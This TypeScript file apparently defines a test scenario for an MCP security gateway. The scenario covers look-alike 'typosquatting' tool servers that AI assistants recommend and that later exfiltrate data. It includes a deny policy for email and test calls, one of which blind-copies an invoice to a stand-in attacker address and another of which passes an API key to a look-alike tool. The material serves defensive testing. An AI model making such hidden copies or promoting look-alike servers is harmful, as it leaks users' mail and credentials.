// Look-alike servers: a name close to a known one collects users.
import type { Attack } from '../attack.ts';

export const mcpTyposquatting: Attack = {
  id: 'mcp-typosquatting',
  name: 'Look-alike servers',
  family: 'supply',
  evidence: 'documented',
  summary:
    'A package with a name close to a known one collects users by mistake or by the suggestion of an assistant, and turns bad later.',
  steps: [
    'Somebody publishes a server under a name that people or models are likely to write.',
    'It works like the real one for a while, and gathers users and trust.',
    'Assistants recommend it, since it is there and the name fits.',
    'A later version does something else beside its work, such as sending copies to its maker.',
  ],
  incidents: [
    {
      id: 'Postmark look-alike',
      product: 'A package on npm under the name of a mail service',
      what: 'It had 1,643 downloads, and what was bad in it came with a later version.',
    },
    {
      id: 'SANDWORM_MODE',
      product: 'More than 19 packages on npm',
      what: 'Packages under names close to known ones were published, and assistants helped to spread them.',
    },
  ],
  access: 'A user or an assistant who takes a server by its name.',
  detection:
    'Names of servers are compared with known ones, publishers are checked against repositories and registries, and a look-alike is an event of its own.',
  defence:
    'Check who publishes a server before its first start. Behind the gateway, name recipients and hosts, so that a copy to someone else is refused.',
  limits:
    'A look-alike that sends the copy by itself does not pass the gateway with it; start it without a network where that is possible.',
  policy: {
    version: '1',
    description:
      'Mail goes to addresses of example.com, without copies, at most 20 an hour; templates may be read.',
    default: 'deny',
    tools: {
      list_templates: {},
      send_email: {
        require: [
          {
            conditions: [
              { path: 'args.to', op: 'regex', value: '^[A-Za-z0-9._+-]+@example\\.com$' },
            ],
            on_deny: 'Mail goes to one address of example.com at a time.',
          },
        ],
        deny_if: [
          { conditions: [{ path: 'args.cc', op: 'exists', value: true }] },
          {
            conditions: [{ path: 'args.bcc', op: 'exists', value: true }],
            on_deny: 'Blind copies are not sent.',
          },
        ],
        limits: [{ counter: 'send_email_hourly', window: 'hour', max: 20, scope: 'grant' }],
      },
    },
  },
  calls: [
    {
      kind: 'attack',
      note: 'a blind copy to the maker of the package',
      tool: 'send_email',
      arguments: { to: 'ann@example.com', bcc: 'maker@collect.test', body: 'Invoice 7' },
      expect: 'deny',
    },
    {
      kind: 'attack',
      note: 'a tool that only the look-alike has',
      tool: 'verify_account',
      arguments: { api_key: 'pm_1' },
      expect: 'deny',
    },
    {
      kind: 'work',
      note: 'mail to a customer of the own domain',
      tool: 'send_email',
      arguments: { to: 'ann@example.com', body: 'Invoice 7' },
      expect: 'allow',
    },
  ],
  owasp: ['MCP04', 'MCP09'],
  tools: [],
  servers: [
    { traits: ['look-alike'], weight: 95 },
    { traits: ['unknown-publisher'], weight: 70 },
  ],
};
